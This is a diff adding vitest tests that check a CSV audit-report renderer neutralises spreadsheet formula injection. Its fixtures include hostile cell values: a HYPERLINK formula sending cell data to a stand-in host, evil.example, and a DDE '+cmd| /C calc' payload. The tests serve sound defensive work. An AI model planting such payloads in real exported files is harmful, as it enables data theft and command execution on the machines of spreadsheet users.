@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import {
-  computeAuditReport, escapeHtml, escapeMarkdown, formatDuration, formatPercent, quoteCsvField, renderCsv, renderHtml, renderJson, renderMarkdown,
+  computeAuditReport, csvCell, escapeHtml, escapeMarkdown, formatDuration, formatPercent, quoteCsvField, renderCsv, renderHtml, renderJson, renderMarkdown,
 } from '../../../src/reports/index.ts';
 import { change, input, iv, phase, reach } from '../../fixtures/reports/histories.ts';
 
@@ -34,6 +34,41 @@ describe('renderCsv', () => {
     ['', ''],
   ])('quotes %j as %j', (value, quoted) => {
     expect(quoteCsvField(value)).toBe(quoted);
+  });
+});
+
+describe('renderCsv against formula injection (OWASP CSV injection)', () => {
+  it('writes hostile cluster, namespace, name and source cells as text a spreadsheet does not run', () => {
+    const report = computeAuditReport(input([
+      phase('p1', [iv('Current', 0, 24)], { cluster: '=HYPERLINK("http://evil.example/?"&A1,"click")', namespace: '+cmd|\' /C calc\'!A0', name: '-2+3', source: '@SUM(A1:A9)' }),
+      phase('p2', [iv('Current', 0, 24)], { cluster: '\t=1+1', namespace: '\r=1+1', name: '-5', source: 'cli-utils' }),
+    ]));
+    const rows = renderCsv(report).split('\r\n');
+    expect(rows[1]).toBe('p1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /C calc\'!A0,\'-2+3,\'@SUM(A1:A9),86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current');
+    // A carriage return is also a line break: the neutralised cell is quoted as RFC 4180 asks.
+    expect(rows[2]).toBe('p2,\'\t=1+1,"\'\r=1+1",\'-5,cli-utils,86400000,0,0,100,86400000,0,0,0,0,0,0,false,0,0,,,,0,0,false,0,Current');
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@A1', "'@A1"],
+    ['\tx', "'\tx"],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ])('neutralises the text cell %j as %j', (text, written) => {
+    expect(csvCell(text)).toBe(written);
+  });
+
+  it.each([
+    [-5, '-5'],
+    [-0.25, '-0.25'],
+    [42, '42'],
+    [false, 'false'],
+    [null, ''],
+  ])('keeps the computed figure %j as the number %j', (value, written) => {
+    expect(csvCell(value)).toBe(written);
   });
 });
 
